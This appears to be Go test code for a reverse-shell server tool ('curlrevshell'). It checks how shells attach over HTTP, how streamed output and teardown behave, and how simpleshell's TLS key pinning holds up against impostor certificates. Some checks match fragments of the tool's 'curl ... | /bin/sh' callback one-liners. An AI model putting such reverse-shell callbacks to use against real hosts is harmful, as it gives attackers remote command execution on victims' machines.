// attachShell attaches a shell (separate /i and /o, or one /io connection).
func attachShell(w *hworld.World, kind, id string) (in, out *hworld.Conn, err error) {
	if "io" == kind {
		c, err := w.Dial("")
		if nil != err {
			return nil, nil, err
		}
		c.Send("POST /io HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
		in, out = c, c
	} else {
		if in, err = w.Dial(""); nil != err {
			return nil, nil, err
		}
		if m, ok := strings.CutPrefix(kind, "uni-"); ok {
			/* The input stream asked for with another method than GET:
			an input stream all the same. */
			in.Send(m + " /i/" + id + " HTTP/1.1\r\nHost: " + w.Addr + "\r\nContent-Length: 0\r\n\r\n")
		} else {
			in.Send(hworld.Get("/i/"+id, w.Addr))
		}
		if out, err = w.Dial(""); nil != err {
			return nil, nil, err
		}
		out.Send("POST /o/" + id + " HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
	}
	if _, ok := w.WaitNotice(func(cl opshell.CLine) bool { return strings.Contains(cl.Line, "Shell is ready") }); !ok {
		return nil, nil, fmt.Errorf("the shell never became ready")
	}
	return in, out, nil
}

// c02HTTP: each entered line is readable by the shell's client before the
// next one is entered (pushed onto the network per line), in order, once.
func c02HTTP(r *ev.Result) {
	n := 0
	for _, kind := range []string{"uni", "io", "uni-POST", "uni-PUT"} {
		w, err := hworld.Start(hworld.Config{})
		if nil != err {
			ev.Broken("%s", err)
		}
		v := func(sig, what string) {
			r.Violate(ev.Violation{Signature: "http/" + sig + "/" + kind, What: what, Kind: "c02http", Replay: map[string]string{"http_seam": kind}})
		}
		/* Two lines wait for the shell. */
		w.Ich <- "held-1"
		w.Ich <- "held-2 with \"quotes\" and a tab\there"
		in, out, err := attachShell(w, kind, "k")
		if nil != err {
			v("no-shell", err.Error())
			w.Stop()
			continue
		}
		res, err := in.ReadHeader("GET")
		if nil != err {
			v("line-not-pushed", "held lines did not arrive (no response header): "+err.Error())
			w.Stop()
			continue
		}
		all := ""
		lines := []string{"held-1", "held-2 with \"quotes\" and a tab\there"}
		got, err := readUntil(in, res.Body, "tab\there\n")
		all += got
		if nil != err {
			v("line-not-pushed", fmt.Sprintf("lines held for the shell did not arrive: got %q, %v", got, err))
		}
		for i := 0; i < 6 && nil == err; i++ {
			l := fmt.Sprintf("line-%d %s", i, strings.Repeat("x", i*700))
			lines = append(lines, l)
			w.Ich <- l
			/* It must be readable now, before anything else is entered. */
			got, err = readUntil(in, res.Body, l+"\n")
			all += got
			if nil != err {
				v("line-not-pushed", fmt.Sprintf("line %d was entered but did not reach the client before the next one (got %q, %v): it is not flushed per line", i, trunc80(got), err))
			}
			n++
		}
		if want := strings.Join(lines, "\n") + "\n"; nil == err && all != want {
			v("lines-changed", fmt.Sprintf("the client received %q, entered %q", trunc80(all), trunc80(want)))
		}
		in.Close()
		out.Close()
		w.Stop()
	}
	r.Add(n)
	r.AddDistinct(n)
	r.Traces += n
	r.Set("http_seam_lines", n)
}

// c03HTTP: output sent with every chunking, ended every way, is displayed
// byte-exact, complete, before the close notice.
func c03HTTP(r *ev.Result) {
	data := "abc\ndef\x00\xffghij\r\nklmnopqrstuvwxyz0123456789\n" + strings.Repeat("Z", 5000) + "\nend"
	chunkings := map[string][]int{
		"one-chunk":      {len(data)},
		"bytewise-64":    nil, /* 64 single bytes, then the rest */
		"2047-2048-rest": {2047, 2048},
		"1-then-rest":    {1},
	}
	n := 0
	for _, kind := range []string{"uni", "io"} {
		for cname, sizes := range chunkings {
			for _, ending := range []string{"eof", "close", "cut-mid-chunk"} {
				w, err := hworld.Start(hworld.Config{})
				if nil != err {
					ev.Broken("%s", err)
				}
				v := func(sig, what string) {
					r.Violate(ev.Violation{Signature: "http/" + sig + "/" + kind + "/" + ending, What: fmt.Sprintf("%s shell, chunking %s, ending %s: %s", kind, cname, ending, what), Kind: "c03http", Replay: map[string]string{"http_seam": kind + "/" + cname + "/" + ending}})
				}
				in, out, err := attachShell(w, kind, "k")
				if nil != err {
					v("no-shell", err.Error())
					w.Stop()
					continue
				}
				rest := data
				if "bytewise-64" == cname {
					for i := 0; i < 64; i++ {
						out.Send(chunk(rest[:1]))
						rest = rest[1:]
					}
				}
				for _, sz := range sizes {
					if sz > len(rest) {
						sz = len(rest)
					}
					out.Send(chunk(rest[:sz]))
					rest = rest[sz:]
				}
				if "" != rest {
					out.Send(chunk(rest))
				}
				if "cut-mid-chunk" == ending {
					/* The connection dies inside a chunk (a FIN, so that
					everything sent stays readable): what had arrived of
					that chunk was sent before the end, and is shown.
					(net/http hands such a piece to the handler only when
					the connection has ended: together with the error, and
					after cancelling the request's context.) */
					const tailPiece = "TAIL-PIECE-OF-A-CHUNK-THAT-NEVER-ENDS"
					out.Send(fmt.Sprintf("%x\r\n%s", len(tailPiece)+500, tailPiece))
					out.C.CloseWrite()
					want := data + tailPiece
					shown := ""
					_, ok := w.WaitNotice(func(cl opshell.CLine) bool {
						if cl.Plain {
							shown += cl.Line
						}
						return strings.Contains(cl.Line, "Shell is gone")
					})
					switch {
					case !ok:
						v("not-torn-down", "the output connection was cut, no 'gone' notice followed")
					case shown != want && strings.HasPrefix(want, shown):
						r.Violate(ev.Violation{Signature: "http/output-lost-at-connection-cut/" + kind, Kind: "c03http", Replay: map[string]string{"http_seam": kind + "/" + cname + "/" + ending},
							What: fmt.Sprintf("%s shell, chunking %s: the client sent %d bytes and then its connection ended (FIN) in the middle of a chunk; the operator was shown the first %d bytes only before the shell was declared gone (missing: %q)", kind, cname, len(want), len(shown), trunc80(want[len(shown):]))})
					case shown != want:
						v("output-changed", fmt.Sprintf("displayed %q, sent %q", trunc80(tail(shown, 70)), trunc80(tail(want, 70))))
					}
					n++
					in.Close()
					out.Close()
					w.Stop()
					continue
				}
				if "eof" == ending {
					out.Send("0\r\n\r\n")
				} else {
					/* Everything must have been taken off the wire before
					the connection goes: wait until it is displayed. */
					shown := ""
					if _, ok := w.WaitNotice(func(cl opshell.CLine) bool {
						if cl.Plain {
							shown += cl.Line
						}
						return len(shown) >= len(data)
					}); !ok || shown != data {
						v("output-changed", fmt.Sprintf("displayed %q, sent %q", trunc80(shown), trunc80(data)))
					}
					out.Close()
					n++
					in.Close()
					w.Stop()
					continue
				}
				/* EOF: everything is displayed, and before the notice that
				the output ended ("gone" for /io, which prints no close
				notice on a clean end). */
				shown, sawEnd, plainAfter := "", false, false
				w.WaitNotice(func(cl opshell.CLine) bool {
					switch {
					case cl.Plain && sawEnd:
						plainAfter = true
					case cl.Plain:
						shown += cl.Line
					case strings.Contains(cl.Line, "Output connection closed"), strings.Contains(cl.Line, "Output side of bidirectional connection closed"):
						sawEnd = true
					}
					return strings.Contains(cl.Line, "Shell is gone")
				})
				if shown != data {
					v("output-incomplete-at-close", fmt.Sprintf("the stream ended by itself after %d bytes, %d were displayed before the shell was declared gone (%q ... %q)", len(data), len(shown), trunc80(shown), trunc80(data)))
				}
				if plainAfter {
					v("output-after-close-notice", "shell output was displayed after the notice that the output connection closed")
				}
				n++
				in.Close()
				out.Close()
				w.Stop()
			}
		}
	}
	r.Add(n)
	r.AddDistinct(n)
	r.Traces += n
	r.Set("http_seam_streams", n)
}

// c04HTTP: every way a client can end a direction, over real connections, for
// several shells in a row; the other direction's connection is ended by the
// server without further traffic, one "gone" notice, the one-liners return.
func c04HTTP(r *ev.Result) {
	n := 0
	for _, kind := range []string{"uni", "io"} {
		endings := []string{"close-in", "close-out", "eof-out"}
		if "io" == kind {
			endings = []string{"close-both", "eof-out"}
		}
		w, err := hworld.Start(hworld.Config{})
		if nil != err {
			ev.Broken("%s", err)
		}
		gen := 0
		for round := 0; round < 2; round++ {
			for _, ending := range endings {
				gen++
				id := fmt.Sprintf("id%d", gen)
				v := func(sig, what string) {
					r.Violate(ev.Violation{Signature: "http/" + sig + "/" + kind + "/" + ending, What: fmt.Sprintf("%s shell number %d (ID %s), ended by %s: %s", kind, gen, id, ending, what), Kind: "c04http", Replay: map[string]string{"http_seam": kind + "/" + ending}})
				}
				w.Drain()
				in, out, err := attachShell(w, kind, id)
				if nil != err {
					v("next-shell-refused", "after the previous shells ended, a new one is not accepted: "+err.Error())
					break
				}
				w.Ich <- "hello " + id
				var inBody io.Reader
				if res, err := in.ReadHeader("GET"); nil != err {
					v("no-input", err.Error())
				} else if got, err := readUntil(in, res.Body, "hello "+id+"\n"); nil != err {
					v("no-input", fmt.Sprintf("got %q, %v", got, err))
				} else {
					inBody = res.Body
				}
				var peer *hworld.Conn
				switch ending {
				case "close-in":
					in.Close()
					peer = out
				case "close-out":
					out.Close()
					peer = in
				case "close-both":
					in.Close()
				case "eof-out":
					out.Send("0\r\n\r\n")
					if "uni" == kind {
						peer = in
					}
				}
				gone, help := 0, 0
				ns, ok := w.WaitNotice(func(cl opshell.CLine) bool {
					if strings.Contains(cl.Line, "Shell is gone") {
						gone++
					}
					if strings.HasPrefix(cl.Line, "\ncurl ") {
						help++
					}
					return gone > 0 && help > 0
				})
				if !ok {
					v("not-torn-down", fmt.Sprintf("no 'gone' notice followed by the one-liners (gone %d, one-liners %d): %s", gone, help, trunc80(hworld.NoticeText(ns))))
				}
				switch {
				case nil != peer && peer == in && nil != inBody:
					/* The surviving input stream is ended by the server,
					without its client doing anything: its response body
					ends. */
					in.C.SetReadDeadline(time.Now().Add(hworld.Watchdog))
					if _, err := io.Copy(io.Discard, inBody); nil != err {
						if ne, ok := err.(interface{ Timeout() bool }); ok && ne.Timeout() {
							v("peer-not-ended", "the input stream's response was still open 30 s after the shell was declared gone")
						}
					}
				case nil != peer && peer == out:
					/* The surviving output request is no longer listened to
					(net/http keeps the connection until the client ends its
					upload; that is the library's business). */
					out.Send(chunk("late-output-after-gone\n"))
					out.Send("0\r\n\r\n")
					out.ReadResponse("POST")
					for _, cl := range w.Drain() {
						if cl.Plain && strings.Contains(cl.Line, "late-output-after-gone") {
							v("peer-not-ended", "output sent after the shell was declared gone was still displayed")
						}
					}
				}
				in.Close()
				out.Close()
				for _, cl := range w.Drain() {
					if strings.Contains(cl.Line, "Shell is gone") {
						v("gone-twice", "a second 'gone' notice for one shell")
					}
				}
				n++
			}
		}
		w.Stop()
	}
	r.Add(n)
	r.AddDistinct(n)
	r.Traces += n
	r.Set("http_seam_shells", n)
}

// c04ManyShells: "indefinitely many times in series", taken at its word as
// far as a second allows: 1 100 shells one after the other through the real
// handlers (scripted requests, no network), each attached, ended by its
// output's EOF, torn down, announced gone once, the callback help printed
// again.  Anything that fills up per shell shows within that many.
func c04ManyShells(r *ev.Result, shells int) {
	w, err := hworld.Start(hworld.Config{})
	if nil != err {
		ev.Broken("%s", err)
	}
	defer w.Stop()
	h := w.Srv.VerifHandler()
	fail := func(k int, sig, what string) {
		r.Violate(ev.Violation{Signature: "series/" + sig, Kind: "c04http", Replay: map[string]int{"shell_number": k},
			What: fmt.Sprintf("shell number %d of a series through the real handlers: %s", k, what)})
	}
	n := 0
	for k := 1; k <= shells; k++ {
		id := fmt.Sprintf("s%d", k)
		ictx, icancel := context.WithCancel(context.Background())
		inDone, outDone := make(chan struct{}), make(chan struct{})
		go func() {
			defer close(inDone)
			req := httptest.NewRequest("GET", "/i/"+id, nil).WithContext(ictx)
			req.RemoteAddr = "192.0.2.9:1000"
			h.ServeHTTP(&hsWriter{h: http.Header{}}, req)
		}()
		if _, ok := w.WaitNotice(func(cl opshell.CLine) bool {
			return strings.Contains(cl.Line, "Input connected") || strings.Contains(cl.Line, "Rejected")
		}); !ok {
			icancel()
			fail(k, "next-shell-refused", "its input stream was neither attached nor refused within 30 s (the earlier shells all ended)")
			return
		}
		go func() {
			defer close(outDone)
			body := &hsBody{seq: []hsRes{{"data+eof", true, io.EOF}}, hold: make(chan struct{}), gate: make(chan struct{})}
			close(body.gate)
			req := httptest.NewRequest("POST", "/o/"+id, body)
			req.RemoteAddr = "192.0.2.9:1001"
			h.ServeHTTP(&hsWriter{h: http.Header{}}, req)
		}()
		gone, help, ready := 0, 0, 0
		_, ok := w.WaitNotice(func(cl opshell.CLine) bool {
			switch {
			case strings.Contains(cl.Line, "Shell is gone"):
				gone++
			case strings.Contains(cl.Line, "Shell is ready"):
				ready++
			case strings.Contains(cl.Line, "/c | /bin/sh"):
				help++
			}
			return gone > 0 && help > 0
		})
		if !ok {
			icancel()
			fail(k, "not-torn-down", fmt.Sprintf("its output ended; within 30 s there were %d ready, %d gone notices and the callback help was printed %d times", ready, gone, help))
			return
		}
		for _, ch := range []chan struct{}{inDone, outDone} {
			select {
			case <-ch:
			case <-time.After(hworld.Watchdog):
				icancel()
				fail(k, "handler-never-returns", "the shell was announced gone, a handler of it is still running 30 s later")
				return
			}
		}
		icancel()
		if 1 != gone || 1 != ready {
			fail(k, "notice-count", fmt.Sprintf("%d ready and %d gone notices for one shell", ready, gone))
			return
		}
		n++
	}
	r.Add(n)
	r.Traces += n
	r.Set("shells_in_series_through_the_handlers", n)
}

// c04Events: the server as the program builds it, with and without
// -one-shell, and a second event listener next to the server's own: one shell
// attaches and ends; the listener hears of one connection and one
// disconnection.
func c04Events(r *ev.Result) {
	n := 0
	for _, oneShell := range []bool{false, true} {
		for _, kind := range []string{"uni", "io"} {
			w, err := hworld.Start(hworld.Config{OneShell: oneShell})
			if nil != err {
				ev.Broken("%s", err)
			}
			evl := make(chan iobroker.Event, 64)
			w.B.AddEventListener(evl)
			in, out, err := attachShell(w, kind, "evk")
			if nil != err {
				w.Stop()
				ev.Broken("c04 events: %s", err)
			}
			if oneShell {
				time.Sleep(300 * time.Millisecond) /* The listener closes meanwhile. */
			}
			out.Send("0\r\n\r\n")
			_, gone := w.WaitNotice(func(cl opshell.CLine) bool { return strings.Contains(cl.Line, "Shell is gone") })
			in.Close()
			out.Close()
			var got []string
			deadline := time.After(hworld.Watchdog)
		collect:
			for len(got) < 2 {
				select {
				case e := <-evl:
					got = append(got, string(e.Type))
				case <-deadline:
					break collect
				}
			}
			time.Sleep(50 * time.Millisecond)
			for more := true; more; {
				select {
				case e := <-evl:
					got = append(got, string(e.Type))
				default:
					more = false
				}
			}
			w.Stop()
			n++
			if want := []string{string(iobroker.EventTypeConnected), string(iobroker.EventTypeDisconnected)}; gone && fmt.Sprint(got) != fmt.Sprint(want) {
				r.Violate(ev.Violation{Signature: fmt.Sprintf("http/events/one-shell=%v", oneShell), Kind: "c04http", Replay: map[string]any{"one_shell": oneShell, "kind": kind},
					What: fmt.Sprintf("server built with one-shell=%v, a %s shell attached and ended (announced gone to the operator): an event listener heard %v, want %v", oneShell, kind, got, want)})
			}
		}
	}
	/* A listener that is slow: a buffer of one, nobody reading until two
	shells have come and gone.  Every event is still delivered, in order
	(C04-U: a fan-out that drops what a full channel does not take). */
	for _, kind := range []string{"uni", "io"} {
		w, err := hworld.Start(hworld.Config{})
		if nil != err {
			ev.Broken("%s", err)
		}
		evl := make(chan iobroker.Event, 1)
		w.B.AddEventListener(evl)
		allGone := true
		for i := 0; i < 2; i++ {
			in, out, err := attachShell(w, kind, fmt.Sprintf("slow%d", i))
			if nil != err {
				/* Drain so that nothing is blocked on us, then give up. */
				go func() {
					for range evl {
					}
				}()
				w.Stop()
				ev.Broken("c04 slow listener: %s", err)
			}
			out.Send("0\r\n\r\n")
			_, gone := w.WaitNotice(func(cl opshell.CLine) bool { return strings.Contains(cl.Line, "Shell is gone") })
			allGone = allGone && gone
			in.Close()
			out.Close()
		}
		var got []string
		deadline := time.After(hworld.Watchdog)
	collectSlow:
		for len(got) < 4 {
			select {
			case e := <-evl:
				got = append(got, string(e.Type))
			case <-deadline:
				break collectSlow
			}
		}
		time.Sleep(50 * time.Millisecond)
		for more := true; more; {
			select {
			case e := <-evl:
				got = append(got, string(e.Type))
			default:
				more = false
			}
		}
		w.B.RemoveEventListener(evl)
		w.Stop()
		n++
		c, d := string(iobroker.EventTypeConnected), string(iobroker.EventTypeDisconnected)
		if want := []string{c, d, c, d}; allGone && fmt.Sprint(got) != fmt.Sprint(want) {
			r.Violate(ev.Violation{Signature: "http/events/slow-listener", Kind: "c04http", Replay: map[string]any{"slow_listener": true, "kind": kind},
				What: fmt.Sprintf("an event listener with a buffer of one that reads only after two %s shells have attached and ended (both announced gone to the operator) heard %v, want %v", kind, got, want)})
		}
	}
	r.Add(n)
	r.AddDistinct(n)
	r.Traces += n
	r.Set("event_listener_sessions", n)
}
