package checks

/*
 * C13 — simpleshell talks only to the pinned key, and the pin is per
 * connection.  Real TLS servers with known keys (one presenting a chain whose
 * second certificate carries another server's key); every (server,
 * fingerprint spelling) pair; every history of up to three calls; and every
 * interleaving of two (thorough: three) concurrent calls, whose scheduling
 * points are the Shell callbacks Go() invokes (Output, SetInput, Go).
 */

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"log"
	"math/big"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/lib/simpleshell"
	"github.com/magisterquis/curlrevshell/verifx/ev"
	"github.com/magisterquis/curlrevshell/verifx/hworld"
)

func init() {
	registry["C13"] = checkDef{level: "model_checking", run: c13, replay: c13Replay}
}

// c13Server is a TLS server which records which calls reached its handler.
type c13Server struct {
	name  string
	addr  string
	chain []*x509.Certificate
	ln    net.Listener
	mu    sync.Mutex
	hits  map[string]int /* call id -> handler runs */
	bytes map[string]int /* call id -> body bytes received */
}

func c13Cert(cn string) (tls.Certificate, *x509.Certificate) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if nil != err {
		panic(err)
	}
	serial, _ := rand.Int(rand.Reader, big.NewInt(1<<62))
	tmpl := x509.Certificate{
		SerialNumber: serial, Subject: pkix.Name{CommonName: cn},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(24 * time.Hour),
		KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
		BasicConstraintsValid: true, IPAddresses: []net.IP{net.ParseIP("127.0.0.1")},
	}
	der, err := x509.CreateCertificate(rand.Reader, &tmpl, &tmpl, &key.PublicKey, key)
	if nil != err {
		panic(err)
	}
	leaf, _ := x509.ParseCertificate(der)
	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key, Leaf: leaf}, leaf
}

// c13Impostor makes a certificate which copies every field of orig an
// attacker can copy (subject, issuer, serial number, validity, usages, names)
// around a key of its own.
func c13Impostor(orig *x509.Certificate) tls.Certificate {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if nil != err {
		panic(err)
	}
	tmpl := x509.Certificate{
		SerialNumber: orig.SerialNumber, Subject: orig.Subject,
		NotBefore: orig.NotBefore, NotAfter: orig.NotAfter,
		KeyUsage: orig.KeyUsage, ExtKeyUsage: orig.ExtKeyUsage,
		BasicConstraintsValid: true, IPAddresses: orig.IPAddresses,
	}
	der, err := x509.CreateCertificate(rand.Reader, &tmpl, &tmpl, &key.PublicKey, key)
	if nil != err {
		panic(err)
	}
	leaf, _ := x509.ParseCertificate(der)
	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key, Leaf: leaf}
}

// c13OddCert makes a certificate whose public-key algorithm Go cannot handle
// (an Ed25519 certificate relabelled as Ed448 in the DER): a chain may carry
// such a thing, and a verifier that has to look at every certificate meets it.
func c13OddCert() *x509.Certificate {
	pub, priv, err := ed25519.GenerateKey(rand.Reader)
	if nil != err {
		panic(err)
	}
	tmpl := x509.Certificate{SerialNumber: big.NewInt(77), Subject: pkix.Name{CommonName: "odd"}, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour)}
	der, err := x509.CreateCertificate(rand.Reader, &tmpl, &tmpl, pub, priv)
	if nil != err {
		panic(err)
	}
	der = bytes.ReplaceAll(der, []byte{0x06, 0x03, 0x2b, 0x65, 0x70}, []byte{0x06, 0x03, 0x2b, 0x65, 0x71})
	c, err := x509.ParseCertificate(der)
	if nil != err {
		panic(fmt.Sprintf("the relabelled certificate does not parse: %v", err))
	}
	return c
}

// c13SlashKey makes certificates until one's pin begins with '/' (a base64
// digit like any other; about one key in 64).
func c13SlashKey() (tls.Certificate, *x509.Certificate) {
	for {
		c, l := c13Cert("server-s")
		if strings.HasPrefix(hworld.PinOf(l), "/") {
			return c, l
		}
	}
}

func c13Start(name string, cert tls.Certificate, extra ...*x509.Certificate) *c13Server {
	s := &c13Server{name: name, hits: map[string]int{}, bytes: map[string]int{}}
	s.chain = []*x509.Certificate{cert.Leaf}
	for _, e := range extra {
		cert.Certificate = append(cert.Certificate, e.Raw)
		s.chain = append(s.chain, e)
	}
	ln, err := tls.Listen("tcp", "127.0.0.1:0", &tls.Config{Certificates: []tls.Certificate{cert}})
	if nil != err {
		panic(err)
	}
	s.ln = ln
	s.addr = ln.Addr().String()
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		/* Every call uses the same URL (so that anything keyed by URL is
		shared between calls); the call is identified by what its shell
		sends. */
		b, _ := io.ReadAll(r.Body)
		id := strings.TrimPrefix(string(b), "shell-output-of-")
		if id == string(b) {
			id = "unattributed"
		}
		s.mu.Lock()
		s.hits[id]++
		s.bytes[id] += len(b)
		s.mu.Unlock()
		w.Header().Set("Connection", "close")
		io.WriteString(w, "from-"+name+"\n")
	}), ErrorLog: log.New(io.Discard, "", 0)}
	go srv.Serve(ln)
	return s
}

func (s *c13Server) reached(id string) (int, int) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.hits[id], s.bytes[id]
}

// c13Call is one call of simpleshell.Go.
type c13Call struct {
	Server string `json:"server"`
	Pin    string `json:"fingerprint_class"` /* Class name, see c13Pins. */
	/* Scheme, if set, is how the URL spells https (schemes are
	case-insensitive). */
	Scheme string `json:"scheme,omitempty"`
	/* Host, if set, is how the URL names the server's loopback address
	instead of the IP literal: "localhost", "localhost." (a trailing dot),
	"LOCALHOST". */
	Host string `json:"host,omitempty"`
}

// c13Shell is the harness's Shell: every callback is a scheduling point.
type c13Shell struct {
	id    string
	gate  func(point string) /* nil: never parks */
	in    io.Reader
	input []byte
}

func (s *c13Shell) Output() io.ReadCloser {
	if nil != s.gate {
		s.gate("Output")
	}
	return io.NopCloser(strings.NewReader("shell-output-of-" + s.id))
}
func (s *c13Shell) SetInput(in io.Reader) {
	if nil != s.gate {
		s.gate("SetInput")
	}
	s.in = in
}
func (s *c13Shell) Go(context.Context) error {
	if nil != s.gate {
		s.gate("Go")
	}
	if nil != s.in {
		s.input, _ = io.ReadAll(s.in)
	}
	return nil
}
func (s *c13Shell) String() string { return "harness-shell-" + s.id }

type c13World struct {
	servers map[string]*c13Server
	pins    map[string]string /* class -> fingerprint string */
	pinKey  map[string]string /* class -> name of the key it pins ("" = none / malformed) */
	n       int
}

func c13NewWorld() *c13World {
	ca, la := c13Cert("server-a")
	cb, _ := c13Cert("server-b")
	cc, _ := c13Cert("server-c")
	w := &c13World{servers: map[string]*c13Server{}}
	w.servers["A"] = c13Start("A", ca)
	w.servers["B"] = c13Start("B", cb)
	w.servers["C"] = c13Start("C", cc, la)          /* chain: leaf C, then A's certificate */
	w.servers["I"] = c13Start("I", c13Impostor(la)) /* A's certificate in everything but the key */
	cu, _ := c13Cert("server-u")
	w.servers["U"] = c13Start("U", cu, c13OddCert()) /* chain: leaf U, then a certificate with a key Go cannot marshal */
	cs, _ := c13SlashKey()
	w.servers["S"] = c13Start("S", cs) /* a key whose pin begins with '/' */
	/* L: a leaf of its own followed by eleven more certificates (a long
	chain, a bundle served whole); A's is the last of them. */
	cl, _ := c13Cert("server-l")
	var long []*x509.Certificate
	for k := 0; k < 10; k++ {
		_, x := c13Cert(fmt.Sprintf("filler-%d", k))
		long = append(long, x)
	}
	w.servers["L"] = c13Start("L", cl, append(long, la)...)
	pa, pb := hworld.PinOf(w.servers["A"].chain[0]), hworld.PinOf(w.servers["B"].chain[0])
	ps := hworld.PinOf(w.servers["S"].chain[0])
	w.pins = map[string]string{
		"pinS":               ps,
		"prefixed-pinS":      "sha256//" + ps,
		"pinA":               pa,
		"pinB":               pb,
		"prefixed-pinA":      "sha256//" + pa,
		"unpadded-pinA":      strings.TrimRight(pa, "="),
		"31-bytes":           "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA==",
		"pinA-then-1-byte":   longerPin(pa, 1),
		"pinA-then-32-bytes": longerPin(pa, 32),
		"33-bytes":           "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
		"not-base64":         "!!!not base64!!!",
		"prefix-only":        "sha256//",
		"double-prefix":      "sha256//sha256//" + pa,
		"pinA-whitespace":    pa + " ",
		"none":               "",
	}
	w.pinKey = map[string]string{"pinA": "A", "pinB": "B", "prefixed-pinA": "A", "pinS": "S", "prefixed-pinS": "S"}
	return w
}

func (w *c13World) stop() {
	for _, s := range w.servers {
		s.ln.Close()
	}
}

// expected is the reference verdict: "ok", "refused" (connection-time) or
// "malformed" (before any connection).
func (w *c13World) expected(c c13Call) string {
	if "none" == c.Pin {
		return "refused" /* Ordinary validation of a self-signed server fails. */
	}
	k, ok := w.pinKey[c.Pin]
	if !ok {
		return "malformed"
	}
	for _, cert := range w.servers[c.Server].chain {
		if hworld.PinOf(cert) == hworld.PinOf(w.servers[k].chain[0]) {
			return "ok"
		}
	}
	return "refused"
}

// run makes the call; gate may be nil.
func (w *c13World) run(c c13Call, id string, gate func(string)) (verdict string, err error, sh *c13Shell) {
	sh = &c13Shell{id: id, gate: gate}
	scheme := "https"
	if "" != c.Scheme {
		scheme = c.Scheme
	}
	addr := w.servers[c.Server].addr
	if "" != c.Host {
		_, port, _ := net.SplitHostPort(addr)
		addr = net.JoinHostPort(c.Host, port)
	}
	url := scheme + "://" + addr + "/io"
	err = simpleshell.Go(context.Background(), simpleshell.ConnConfig{C2: url, Fingerprint: w.pins[c.Pin]}, sh)
	if nil == err {
		return "ok", nil, sh
	}
	return "error", err, sh
}

// judge compares one finished call with the reference.
func (w *c13World) judge(r *ev.Result, where string, rp any, c c13Call, id string, verdict string, err error, sh *c13Shell) {
	v := func(sig, what string) {
		r.Violate(ev.Violation{Signature: sig, What: fmt.Sprintf("%s: call %+v: %s", where, c, what), Kind: "c13", Replay: rp})
	}
	want := w.expected(c)
	hits, nbytes := w.servers[c.Server].reached(id)
	switch want {
	case "ok":
		if "ok" != verdict {
			v("matching-server-refused/"+c.Pin, fmt.Sprintf("the server presents the pinned key but Go failed: %v", err))
		} else if 1 != hits || !strings.HasPrefix(string(sh.input), "from-"+c.Server) {
			v("no-traffic/"+c.Pin, fmt.Sprintf("Go succeeded but the handler ran %d times, input %q", hits, sh.input))
		}
	default:
		if "ok" == verdict {
			v("wrong-server-accepted/"+want+"/"+c.Pin, fmt.Sprintf("Go succeeded although the call must be %s (handler runs %d, body bytes %d)", want, hits, nbytes))
		}
		if 0 != hits || 0 != nbytes {
			v("request-sent-to-wrong-server/"+want+"/"+c.Pin, fmt.Sprintf("the server's handler ran %d times and received %d body bytes although the call must be %s", hits, nbytes, want))
		}
	}
	for n, s := range w.servers {
		if h, _ := s.reached("unattributed"); 0 != h {
			v("unattributed-request", fmt.Sprintf("server %s handled %d request(s) that carry no shell output", n, h))
		}
	}
	/* A call may reach only its own server. */
	for n, s := range w.servers {
		if n == c.Server {
			continue
		}
		if h, _ := s.reached(id); 0 != h {
			v("reached-other-server", fmt.Sprintf("the call reached server %s", n))
		}
	}
}

// defaults is a snapshot of the process-wide HTTP client settings.
type c13Defaults struct {
	ClientTransport http.RoundTripper
	ClientJar       http.CookieJar
	ClientTimeout   time.Duration
	ClientRedirect  bool
	TransportPtr    http.RoundTripper
	TLSConfig       *tls.Config
	DialTLS         bool
	ForceH2         bool
}

func c13Snapshot() c13Defaults {
	t := http.DefaultTransport.(*http.Transport)
	return c13Defaults{
		ClientTransport: http.DefaultClient.Transport, ClientJar: http.DefaultClient.Jar,
		ClientTimeout: http.DefaultClient.Timeout, ClientRedirect: nil != http.DefaultClient.CheckRedirect,
		TransportPtr: http.DefaultTransport, TLSConfig: t.TLSClientConfig,
		DialTLS: nil != t.DialTLS || nil != t.DialTLSContext, ForceH2: t.ForceAttemptHTTP2,
	}
}

func c13(r *ev.Result, tier string) {
	quick := isQuick(tier)
	r.Rule = "(a) every (server in {A, B, C=chain[C,A], I=a copy of A's certificate around another key, U=chain[U, a certificate whose key Go cannot marshal], S=a key whose pin begins with '/'}, fingerprint spelling) pair over 11 spellings; (b) every history of <=3 calls over {pinA->A, pinA->B, pinB->B, pinB->A, none->A, pinA->C, pinA->I}; " +
		"(c) every interleaving of 2 (thorough 3) concurrent calls over those configurations at the scheduling points Output/SetInput/Go (stateless DFS, all schedules); states = distinct (configuration set, schedule prefix) visited, " +
		"transitions = scheduling steps, traces = complete executions against real TLS servers"
	w := c13NewWorld()
	defer w.stop()
	/* The current directory holds a file named like every fingerprint
	string in use (someone keeps pins in files; curl's --pinnedpubkey takes
	a file name too), each holding the pin of *another* key: what a string
	means does not depend on what lies around. */
	if cwd, err := os.Getwd(); nil == err {
		planted := ev.Scratch("c13cwd-")
		defer os.RemoveAll(planted)
		defer os.Chdir(cwd)
		os.Chdir(planted)
		nPlanted := 0
		for class, fp := range w.pins {
			if "" == fp {
				continue
			}
			other := w.pins["pinA"]
			if "A" == w.pinKey[class] {
				other = w.pins["pinB"]
			}
			os.MkdirAll(filepath.Dir(filepath.Clean(fp)), 0o755)
			if nil == os.WriteFile(fp, []byte(other+"\n"), 0o644) {
				nPlanted++
			}
		}
